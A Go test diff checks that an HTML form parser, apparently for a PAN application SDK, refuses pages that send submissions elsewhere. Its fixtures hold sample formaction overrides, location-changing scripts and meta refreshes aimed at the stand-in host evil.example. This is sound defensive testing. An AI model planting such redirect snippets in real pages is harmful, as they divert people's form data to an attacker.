@@ -349,3 +349,88 @@ func TestParseRefusesAnActionPortNoBrowserAccepts(t *testing.T) {
 		assert.NotNil(t, f, action)
 	}
 }
+
+// TestParseRefusesAPageThatSendsTheApplicantElsewhere: a submit control
+// whose formaction or formmethod differs from its form's, a script that
+// sets the action or navigates, or a meta refresh leaves the SDK unable to
+// tell where the browser goes.
+func TestParseRefusesAPageThatSendsTheApplicantElsewhere(t *testing.T) {
+	const fields = `<input type="hidden" name="a" value="1">`
+	for name, page := range map[string]string{
+		"button formaction": `<form method="post" action="https://nsdl.example/pan">` + fields +
+			`<button formaction="https://evil.example/x">Go</button></form>`,
+		"input submit formaction": `<form method="post" action="https://nsdl.example/pan">` + fields +
+			`<input type="submit" formaction="/other"></form>`,
+		"image formaction": `<form method="post" action="https://nsdl.example/pan">` + fields +
+			`<input type="IMAGE" formaction="https://nsdl.example/other"></form>`,
+		"empty formaction is the page itself": `<form method="post" action="https://nsdl.example/pan">` + fields +
+			`<button formaction="">Go</button></form>`,
+		"button formmethod": `<form method="post" action="https://nsdl.example/pan">` + fields +
+			`<button type="submit" formmethod="get">Go</button></form>`,
+		"button outside the form joined by its form attribute": `<form id="f" method="post" action="https://nsdl.example/pan">` +
+			fields + `</form><button form="f" formaction="https://evil.example/">Go</button>`,
+		"script sets the action": `<form method="post" action="https://nsdl.example/pan">` + fields + `</form>
+			<script>var f = document.forms[0]; f.action = "https://evil.example/"; f.submit();</script>`,
+		"script sets the action without spaces": `<form name="p" method="post" action="https://nsdl.example/pan">` + fields + `</form>
+			<script>document.forms[0].action='https://evil.example/';document.p.submit()</script>`,
+		"script calls setAttribute": `<form method="post" action="https://nsdl.example/pan">` + fields + `</form>
+			<script>document.forms[0].setAttribute( "Action" , "https://evil.example/")</script>`,
+		"script sets location.href": `<form method="post" action="https://nsdl.example/pan">` + fields + `</form>
+			<script>location.href = "https://evil.example/"</script>`,
+		"script replaces the location": `<form method="post" action="https://nsdl.example/pan">` + fields + `</form>
+			<script>window.location.replace("https://evil.example/")</script>`,
+		"script assigns window.location": `<form method="post" action="https://nsdl.example/pan">` + fields + `</form>
+			<script>window.location="https://evil.example/"</script>`,
+		"body onload navigates": `<body onload="document.location.assign('https://evil.example/')">` +
+			`<form method="post" action="https://nsdl.example/pan">` + fields + `</form></body>`,
+		"script sets another part of the location": `<form method="post" action="https://nsdl.example/pan">` + fields + `</form>
+			<script>top.location.pathname = "/x"</script>`,
+		"script sets the location by index": `<form method="post" action="https://nsdl.example/pan">` + fields + `</form>
+			<script>window.location [ "href" ] = "https://evil.example/"</script>`,
+		"script sets the action by index": `<form method="post" action="https://nsdl.example/pan">` + fields + `</form>
+			<script>document.forms[0]['action'] = "https://evil.example/"</script>`,
+		"meta refresh": `<head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>` +
+			`<form method="post" action="https://nsdl.example/pan">` + fields + `</form>`,
+		"meta refresh in other case and spacing": `<head><META HTTP-EQUIV=" Refresh " CONTENT="0 ; URL = https://evil.example/"></head>` +
+			`<form method="post" action="https://nsdl.example/pan">` + fields + `</form>`,
+	} {
+		t.Run(name, func(t *testing.T) {
+			f, refusal := Parse([]byte(page), pfMustURL(t, pfAPI), pfAPIBases...)
+			require.NotNil(t, refusal, "accepted %+v", f)
+			assert.Nil(t, f)
+			assert.Contains(t, refusal.Reason, "HTML form refused")
+			assert.NotContains(t, refusal.Reason, "evil.example", "the page's text is not quoted")
+		})
+	}
+}
+
+// TestParseAcceptsSubmitControlsAndScriptsThatKeepTheAction: a submit
+// control that repeats its form's action and method, a button that does not
+// submit, and a script that only submits or reads the action leave the
+// destination known.
+func TestParseAcceptsSubmitControlsAndScriptsThatKeepTheAction(t *testing.T) {
+	const fields = `<input type="hidden" name="a" value="1">`
+	want := &Form{Action: "https://nsdl.example/pan", Method: "POST", Fields: url.Values{"a": {"1"}}}
+	for name, page := range map[string]string{
+		"same action, spelled relative, same method": `<head><base href="https://nsdl.example/"></head>` +
+			`<form method="post" action="https://nsdl.example/pan">` + fields +
+			`<button formaction="pan#top" formmethod="POST">Go</button></form>`,
+		"a plain button and a reset with formaction": `<form method="post" action="https://nsdl.example/pan">` + fields +
+			`<button type="button" formaction="https://x.example/">B</button><input type="reset" formaction="/x"></form>`,
+		"a submit button of another form": `<form method="post" action="https://nsdl.example/pan">` + fields + `</form>` +
+			`<form id="g" action="https://x.example/"><input name="g" value="1"></form>` +
+			`<button form="g" formaction="https://y.example/">Go</button><script>document.forms[0].submit()</script>`,
+		"script reads the action and submits": `<form method="post" action="https://nsdl.example/pan">` + fields + `</form>
+			<script>if (document.forms[0].action == "") { alert("x") } document.forms[0].submit(); var relocation = 1;</script>`,
+		"script sets the location's fragment or reads it": `<form method="post" action="https://nsdl.example/pan">` + fields + `</form>
+			<script>location.hash = "#go"; var h = location["href"]; document.forms[0].submit()</script>`,
+		"meta other than refresh": `<head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head>` +
+			`<form method="post" action="https://nsdl.example/pan">` + fields + `</form>`,
+	} {
+		t.Run(name, func(t *testing.T) {
+			f, refusal := Parse([]byte(page), pfMustURL(t, pfAPI), pfAPIBases...)
+			require.Nil(t, refusal)
+			assert.Equal(t, want, f)
+		})
+	}
+}
